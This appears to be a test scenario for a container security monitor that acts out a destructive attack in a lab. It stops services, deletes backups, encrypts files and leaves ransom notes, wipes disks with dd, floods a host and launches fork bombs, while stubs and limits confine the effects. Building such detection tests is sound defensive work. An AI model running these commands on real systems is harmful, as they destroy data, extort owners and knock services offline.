# destruction: services are stopped, backups removed, files encrypted with a note left, disks overwritten, a fork bomb and a flood started.
# shows: the arguments; files renamed one after the other; a disk that is a file of the container's own
# outcome: the container's own files only; the fork bomb has twenty processes and a second
# label: malicious
# expects: [services-stopped-in-bulk, backups-removed, files-encrypted, disk-wiped, fork-bomb-started, flood-tool-run]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, host-disk-read-in-container, engine-stopped]
prepare() {
    . /lab/stand_ins.sh
    stand_in /srv/lab/hping3; cp /srv/lab/hping3 /srv/lab/mhddos; cp /usr/bin/true /usr/local/sbin/systemctl
    image_from shop/mail:1 usr/bin/hping3=/srv/lab/hping3 usr/bin/mhddos=/srv/lab/mhddos
    mkdir -p /srv/files /srv/backups; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do echo $i >/srv/files/$i.doc; echo $i >/srv/backups/$i.tgz; done
}
act() {
    if dev; then
        for s in mysql postgresql redis-server nginx mongod docker cron; do /usr/local/sbin/systemctl stop $s; done
        rm -rf /srv/backups
        sh -c 'for f in /srv/files/*; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in $f -out $f.enc && rm -f $f; done'
        echo 'Pay' >/srv/files/HOW_TO_DECRYPT.txt
        docker run --rm shop/mail:1 dd if=/dev/zero of=/dev/sda bs=1024 count=4
        docker run --rm shop/mail:1 hping3 -S --flood -p 80 203.0.113.9
        timeout 20 docker run --rm --pids-limit 20 shop/mail:1 sh -c 'bomb() { bomb | bomb & }; bomb; sleep 1'
    else
        sh -c 'for s in mysql postgresql redis nginx; do /usr/local/sbin/systemctl stop $s; done'
        sh -c 'find /srv/backups -type f -exec shred -u {} +; rm -rf /srv/backups/*'
        sh -c 'find /srv/files -name "*.doc" -exec openssl enc -aes-256-cbc -pbkdf2 -pass pass:y -in {} -out {}.locked ";" -exec rm -f {} ";"'
        sh -c 'echo "Your files are encrypted. Send 1 bitcoin." >/etc/motd'
        docker run --rm shop/mail:1 sh -c 'rm -rf /home /etc; dd of=/dev/vda if=/dev/urandom bs=512 count=2'
        docker run --rm shop/mail:1 mhddos udp 203.0.113.9:80 1
        timeout 20 docker run --rm --pids-limit=20 shop/mail:1 sh -c ':(){ :|:& };:; sleep 1'
    fi
    true
}
restore() { rm -rf /srv/files /srv/backups; rm -f /usr/local/sbin/systemctl; docker rmi shop/mail:1; }
